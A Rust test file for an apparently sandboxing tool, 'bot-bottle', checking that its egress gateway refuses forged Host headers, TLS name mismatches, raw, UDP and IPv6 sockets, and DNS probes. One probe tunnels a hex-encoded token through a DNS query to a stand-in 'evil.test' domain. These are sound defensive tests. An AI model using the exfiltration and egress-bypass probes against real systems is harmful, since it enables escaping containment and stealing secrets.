//! Programs that ignore proxy variables, in a real native bottle: their DNS queries and TCP connections reach
//! the gateway, and everything else is refused at once.

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use anyhow::{Context, Result, ensure};
use bot_bottle_testkit::{Echo, FakeUpstream, find_program, has_user_namespaces, random_secret, require};
use serde_json::Value;
use tempfile::TempDir;

/// The start of every script: it clears the proxy variables and defines functions that print one line per
/// result.
const PRELUDE: &str = r#"
import errno, os, socket, ssl, struct
for name in list(os.environ):
    if name.lower().endswith("_proxy"):
        del os.environ[name]
def said(what, attempt):
    try:
        print(what, attempt(), flush=True)
    except OSError as error:
        print(what, errno.errorcode.get(error.errno, type(error).__name__), flush=True)
def exchange(address, data, server_name=None):
    plain = socket.create_connection(address, 20)
    plain.settimeout(20)
    if server_name:
        plain = ssl.create_default_context().wrap_socket(plain, server_hostname=server_name)
    if data:
        plain.sendall(data)
    answer = b""
    while b"}" not in answer:
        more = plain.recv(65536)
        if not more:
            break
        answer += more
    return answer.decode()
def request(host, path="/echo"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
def reason(answer):
    status = answer.split(" ")[1] if " " in answer else "closed"
    return status + (" " + answer.split('"reason":"')[1].split('"')[0] if '"reason"' in answer else "")
"#;

/// An operator's home with two hosts that may be reached, one of them with a credential.
struct Home {
    folder: TempDir,
    upstream: FakeUpstream,
    credential: String,
}

impl Home {
    /// `None`, with a message, where the host cannot run the test.
    fn new() -> Result<Option<Self>> {
        if !require("userns", has_user_namespaces()) || !require("python3", find_program("python3").is_some())
        {
            return Ok(None);
        }
        let upstream = FakeUpstream::builder().host("api.test", Echo).host("open.test", Echo).start()?;
        let home = Self { folder: tempfile::tempdir()?, upstream, credential: random_secret("token_") };
        let authority = home.folder.path().join("authority.pem");
        fs::write(&authority, home.upstream.certificate())?;
        let address = home.upstream.address();
        home.write(
            "settings.yml",
            &format!(
                "egress:\n  extra_ca: [{}]\n  resolve: {{api.test: \"{address}\", open.test: \"{address}\"}}\n",
                authority.display(),
            ),
        )?;
        home.write(
            "bottles/captured.md",
            "---\negress:\n  routes:\n    - host: api.test\n      auth: {scheme: Bearer, token_ref: API_TOKEN}\n    \
             - host: open.test\n      ports: [80, 443, 8443]\n    - host: '*.wild.test'\n---\n",
        )?;
        Ok(Some(home))
    }

    fn write(&self, name: &str, content: &str) -> Result<()> {
        let path = self.bot_bottle().join(name);
        fs::create_dir_all(path.parent().context("a folder")?)?;
        Ok(fs::write(path, content)?)
    }

    fn bot_bottle(&self) -> PathBuf {
        self.folder.path().join(".bot-bottle")
    }

    /// Runs a script of Python in a bottle and returns what it printed.
    fn run(&self, script: &str) -> Result<String> {
        let output = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
            .args(["run", "--bottle", "captured", "--backend", "native", "--", "python3", "-c"])
            .arg(format!("{PRELUDE}{script}"))
            .env("HOME", self.folder.path())
            .env("BOT_BOTTLE_HOME", self.bot_bottle())
            .env("API_TOKEN", &self.credential)
            .current_dir(self.folder.path())
            .stdin(Stdio::null())
            .output()?;
        let (printed, messages) =
            (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        ensure!(output.status.success(), "{}\n{printed}\n{messages}", output.status);
        ensure!(!printed.contains(&self.credential), "the credential came back");
        Ok(printed.into_owned())
    }

    /// Method, host, port, path and reason of each decision.
    fn receipts(&self) -> Result<Vec<String>> {
        let mut lines = Vec::new();
        for run in fs::read_dir(self.bot_bottle().join("state"))? {
            let Ok(text) = fs::read_to_string(run?.path().join("receipts.jsonl")) else { continue };
            for line in text.lines() {
                let receipt: Value = serde_json::from_str(line)?;
                if receipt["verdict"].is_null() {
                    continue;
                }
                let text = |key: &str| receipt[key].as_str().unwrap_or_default().to_owned();
                let destination = format!("{}:{}{}", text("host"), receipt["port"], text("path"));
                lines.push(format!("{} {destination} {}", text("method"), text("reason")));
            }
        }
        Ok(lines)
    }

    fn expect_receipts(&self, expected: &[&str]) -> Result<()> {
        let receipts = self.receipts()?;
        for line in expected {
            ensure!(receipts.iter().any(|receipt| receipt == line), "no `{line}` in {receipts:#?}");
        }
        Ok(())
    }
}

#[test]
fn allowed_hosts_are_reached_without_a_proxy_variable() -> Result<()> {
    let Some(home) = Home::new()? else { return Ok(()) };
    let printed = home.run(
        r#"
said("https", lambda: reason(exchange(("api.test", 443), request("api.test"), "api.test")))
said("http", lambda: reason(exchange(("open.test", 80), request("open.test"))))
said("other port", lambda: reason(exchange(("open.test", 8443), request("open.test:8443"), "open.test")))
said("mapped", lambda: reason(exchange(("::ffff:" + socket.gethostbyname("open.test"), 80), request("open.test"))))
import urllib.request
said("urllib", lambda: urllib.request.urlopen("https://api.test/echo").status)
"#,
    )?;
    assert_eq!(printed, "https 200\nhttp 200\nother port 200\nmapped 200\nurllib 200\n");
    let seen = home.upstream.requests();
    let credential = format!("Bearer {}", home.credential);
    let credentials: Vec<_> = seen.iter().map(|request| request.header("authorization")).collect();
    assert_eq!(credentials, [Some(credential.as_str()), None, None, None, Some(&credential)]);
    home.expect_receipts(&["GET api.test:443/echo allowed", "GET open.test:8443/echo allowed"])
}

#[test]
fn everything_else_lands_in_the_gateway_and_is_refused() -> Result<()> {
    let Some(home) = Home::new()? else { return Ok(()) };
    let printed = home.run(
        r#"
allowed = socket.gethostbyname("api.test")
said("literal", lambda: reason(exchange(("9.9.9.9", 80), request("9.9.9.9"))))
said("forged Host", lambda: reason(exchange(("9.9.9.9", 80), request("open.test"))))
said("forged name", lambda: reason(exchange(("9.9.9.9", 443), request("open.test"), "open.test")))
said("other name", lambda: reason(exchange((allowed, 443), request("open.test"), "open.test")))
said("other Host", lambda: reason(exchange((allowed, 443), request("open.test"), "api.test")))
said("other port", lambda: reason(exchange(("api.test", 8080), request("api.test:8080"))))
said("cleartext", lambda: reason(exchange(("api.test", 80), request("api.test"))))
said("free address", lambda: reason(exchange(("198.19.200.1", 80), request("open.test"))))
said("ssh", lambda: reason(exchange(("api.test", 22), b"SSH-2.0-x\r\n")))
said("smtp waits", lambda: reason(exchange(("9.9.9.9", 25), None)))
said("the door itself", lambda: reason(exchange(("127.0.0.1", 3129), None)))
"#,
    )?;
    assert_eq!(
        printed,
        "literal 403 address_literal\nforged Host 421 host_mismatch\nforged name 421 host_mismatch\n\
         other name 421 host_mismatch\nother Host 421 host_mismatch\nother port 403 port_not_allowed\n\
         cleartext 403 cleartext_credential\nfree address 421 host_mismatch\nssh closed\nsmtp waits closed\n\
         the door itself closed\n"
    );
    assert_eq!(home.upstream.connections(), 0, "nothing of it left");
    home.expect_receipts(&[
        "GET 9.9.9.9:80/echo address_literal",
        "CONNECT api.test:22 port_not_allowed",
        "CONNECT 9.9.9.9:25 address_literal",
    ])
}

#[test]
fn what_is_not_tcp_over_ipv4_is_refused_at_once() -> Result<()> {
    let Some(home) = Home::new()? else { return Ok(()) };
    let printed = home.run(
        r#"
allowed = socket.gethostbyname("open.test")
for address in [("1.1.1.1", 443), (allowed, 443), ("8.8.8.8", 53), ("192.168.0.1", 123)]:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    said(f"udp {address[1]}", lambda: udp.sendto(b"x", address))
said("udp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2606:4700::1111", 443)))
said("tcp6", lambda: socket.create_connection(("2606:4700::1111", 443), 20))
said("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
said("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
said("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
own = socket.create_server(("127.0.0.1", 0))
said("own", lambda: socket.create_connection(own.getsockname(), 20) and "connected")
wide = socket.create_server(("0.0.0.0", 0))
said("own, wide", lambda: socket.create_connection(("127.0.0.1", wide.getsockname()[1]), 20) and "connected")
said("nobody", lambda: socket.create_connection(("127.0.0.1", 9), 20))
"#,
    )?;
    assert_eq!(
        printed,
        "udp 443 EPERM\nudp 443 EPERM\nudp 53 EPERM\nudp 123 EPERM\nudp6 ENETUNREACH\ntcp6 ENETUNREACH\n\
         raw EPERM\nping EPROTONOSUPPORT\nsctp EPROTONOSUPPORT\nown connected\nown, wide connected\n\
         nobody ECONNREFUSED\n"
    );
    assert_eq!(home.upstream.connections(), 0);
    Ok(())
}

/// Asks the bottle's DNS by hand.
const ASK: &str = r#"
def question(name, kind, kclass=1, flags=0x0100, count=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"
    return struct.pack("!6H", 0x1234, flags, count, 0, 0, 0) + labels + struct.pack("!2H", kind, kclass)
def ask(name, kind, **more):
    query = question(name, kind, **more)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(20)
    udp.sendto(query, (server, 53))
    return answer(query, udp.recv(4096))
def answer(query, reply):
    assert reply[:2] == query[:2]
    code, answers = reply[3] & 15, struct.unpack("!H", reply[6:8])[0]
    assert code == 1 or reply[12:len(query)] == query[12:], "the question comes back as it was written"
    address = " " + socket.inet_ntoa(reply[-4:]) if answers else ""
    return {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP"}[code] + address
server = open("/etc/resolv.conf").read().split()[1]
A, TXT, AAAA, HTTPS, NULL, ANY = 1, 16, 28, 65, 10, 255
"#;

#[test]
fn names_are_answered_by_the_policy_alone() -> Result<()> {
    let Some(home) = Home::new()? else { return Ok(()) };
    let script = r#"
said("allowed", lambda: ask("api.test", A))
said("again", lambda: ask("aPi.TeSt", A))
said("another", lambda: ask("open.test", A))
said("below a wildcard", lambda: ask("a.b.wild.test", A))
said("its apex", lambda: ask("wild.test", A))
said("no IPv6", lambda: ask("api.test", AAAA))
said("no ECH", lambda: ask("api.test", HTTPS))
said("text", lambda: ask("api.test", TXT))
said("any", lambda: ask("api.test", ANY))
said("unlisted", lambda: ask("evil.test", A))
said("unlisted text", lambda: ask("evil.test", TXT))
said("data", lambda: ask("6769745f746f6b656e3d61626364.evil.test", NULL))
said("login", lambda: ask("platform.claude.com", A))
said("chaos", lambda: ask("version.bind", TXT, kclass=3))
said("notify", lambda: ask("api.test", A, flags=0x2000))
said("no question", lambda: ask("api.test", A, count=0))
stream = socket.create_connection((server, 53), 20)
for name in ["api.test", "evil.test"]:
    query = question(name, A)
    stream.sendall(struct.pack("!H", len(query)) + query)
    length = struct.unpack("!H", stream.recv(2))[0]
    said("by TCP", lambda: answer(query, stream.recv(length)))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for garbage in [b"", b"x", b"\0" * 11, b"\xff" * 600, question("api.test", A, flags=0x8100)]:
    udp.sendto(garbage, (server, 53))
said("still there", lambda: ask("api.test", A))
print(socket.gethostbyname("open.test"))
"#;
    let printed = home.run(&format!("{ASK}{script}"))?;
    assert_eq!(
        printed,
        "allowed NOERROR 198.19.0.1\nagain NOERROR 198.19.0.1\nanother NOERROR 198.19.0.2\n\
         below a wildcard NOERROR 198.19.0.3\nits apex NXDOMAIN\nno IPv6 NOERROR\nno ECH NOERROR\ntext NOERROR\n\
         any NOERROR\nunlisted NXDOMAIN\nunlisted text NXDOMAIN\ndata NXDOMAIN\nlogin NXDOMAIN\nchaos NOTIMP\n\
         notify NOTIMP\nno question FORMERR\nby TCP NOERROR 198.19.0.1\nby TCP NXDOMAIN\n\
         still there NOERROR 198.19.0.1\n198.19.0.2\n"
    );
    home.expect_receipts(&[
        "DNS api.test:53TXT record_type",
        "DNS evil.test:53A no_route",
        "DNS evil.test:53TXT no_route",
        "DNS 6769745f746f6b656e3d61626364.evil.test:53NULL dns_tunnel",
        "DNS wild.test:53A no_route",
        "DNS version.bind:53TXT malformed_request",
    ])?;
    let allowed = home.receipts()?.iter().filter(|line| line.ends_with(" allowed")).count();
    assert_eq!(allowed, 0, "what is known without asking anybody needs no receipt");
    Ok(())
}

/// The other tests are meaningless if these names exist in public DNS.
#[test]
fn nothing_is_asked_of_the_hosts_resolver() -> Result<()> {
    let Some(home) = Home::new()? else { return Ok(()) };
    // The host resolves its own name from `/etc/hosts`; a bottle must not.
    let host = fs::read_to_string("/proc/sys/kernel/hostname")?.trim().to_owned();
    let printed = home.run(&format!(
        "said('host', lambda: socket.gethostbyname({host:?} + '.'))\nprint(open('/etc/hosts').read().count({host:?}))"
    ))?;
    ensure!(Path::new("/etc/hosts").exists());
    assert_eq!(printed, "host gaierror\n0\n");
    Ok(())
}
